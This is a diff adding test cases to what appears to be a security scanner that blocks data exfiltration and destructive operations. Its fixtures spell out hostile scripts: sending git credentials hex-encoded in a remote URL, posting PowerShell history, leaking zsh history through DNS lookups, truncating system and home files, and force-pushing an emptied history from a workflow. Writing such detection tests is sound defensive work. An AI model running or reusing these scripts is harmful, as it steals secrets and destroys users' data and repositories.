@@ -50,6 +50,16 @@ REMOTE_URL = {
 }
 
 
+REMOTE_URL["node runs git with the remote"] = {
+    "scripts/run.js": (
+        "const cp = require('child_process'), fs = require('fs'), os = require('os');\n"
+        "const t = fs.readFileSync(os.homedir() + '/.git-credentials', 'utf8').trim();\n"
+        "cp.execSync(`git remote add m https://m.example.invalid/${Buffer.from(t).toString('hex')}/r.git`);\n"
+        "cp.execSync('git push m --all');\n"
+    )
+}
+
+
 @pytest.mark.parametrize("files", REMOTE_URL.values(), ids=REMOTE_URL.keys())
 def test_a_secret_in_a_git_remote_url_blocks(tmp_path: Path, files: dict[str, str]) -> None:
     assert "SY-FLOW-001" in blocking(tmp_path, files, RUN)
@@ -157,6 +167,22 @@ HISTORIES = {
 }
 
 
+HISTORIES["powershell, PSReadLine history posted"] = {
+    "scripts/run.ps1": (
+        '$h = Get-Content "$env:APPDATA\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt"\n'
+        "Invoke-RestMethod -Method Post -Uri 'https://h.example.invalid/c' -Body ($h -join \"`n\")\n"
+    )
+}
+HISTORIES["python, zsh history in DNS names"] = {
+    "scripts/run.py": (
+        "import os, socket\n"
+        "h = open(os.path.expanduser('~/.zsh_history'), errors='ignore').read()[-200:]\n"
+        "for i in range(0, len(h), 30):\n"
+        "    socket.gethostbyname(h[i:i+30].encode().hex() + '.d.example.invalid')\n"
+    )
+}
+
+
 @pytest.mark.parametrize("files", HISTORIES.values(), ids=HISTORIES.keys())
 def test_histories_and_notebook_tokens_sent_out_block(tmp_path: Path, files: dict[str, str]) -> None:
     assert "SY-FLOW-001" in blocking(tmp_path, files, RUN)
@@ -243,6 +269,20 @@ def test_confined_clean_ups_and_reading_logs_do_not_block(tmp_path: Path, script
     assert blocking(tmp_path, {"scripts/run.sh": script}, RUN) == {}
 
 
+@pytest.mark.parametrize(
+    "files",
+    [
+        {"Makefile": "clean:\n\tfind / -xdev -type f -size +0 -exec truncate -s 0 {} +\n"},
+        {
+            "scripts/run.py": "import subprocess\nsubprocess.run('find /etc /home -type f -exec truncate -s 0 {} +', shell=True)\n"
+        },
+    ],
+    ids=["make recipe", "python hands it to a shell"],
+)
+def test_wiping_system_files_from_other_languages_blocks(tmp_path: Path, files: dict[str, str]) -> None:
+    assert "SY-FLOW-004" in blocking(tmp_path, files, RUN)
+
+
 # ------------------------------------------------ a remote's history replaced, whatever the flag spelling
 
 
@@ -257,6 +297,15 @@ def test_an_emptied_history_force_pushed_blocks(tmp_path: Path, push: str) -> No
         "done\n"
     )
     assert "SY-FLOW-004" in blocking(tmp_path, {"scripts/run.sh": script}, RUN)
+
+
+def test_an_emptied_history_force_pushed_by_a_workflow_blocks(tmp_path: Path) -> None:
+    wf = (
+        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n"
+        "          git checkout --orphan x && git rm -rqf . && git commit -qm x --allow-empty\n"
+        "          git push -qf origin HEAD:main\n"
+    )
+    assert "SY-FLOW-004" in blocking(tmp_path, {".github/workflows/x.yml": wf})
 
 
 def test_a_quiet_push_of_new_work_does_not_block(tmp_path: Path) -> None:
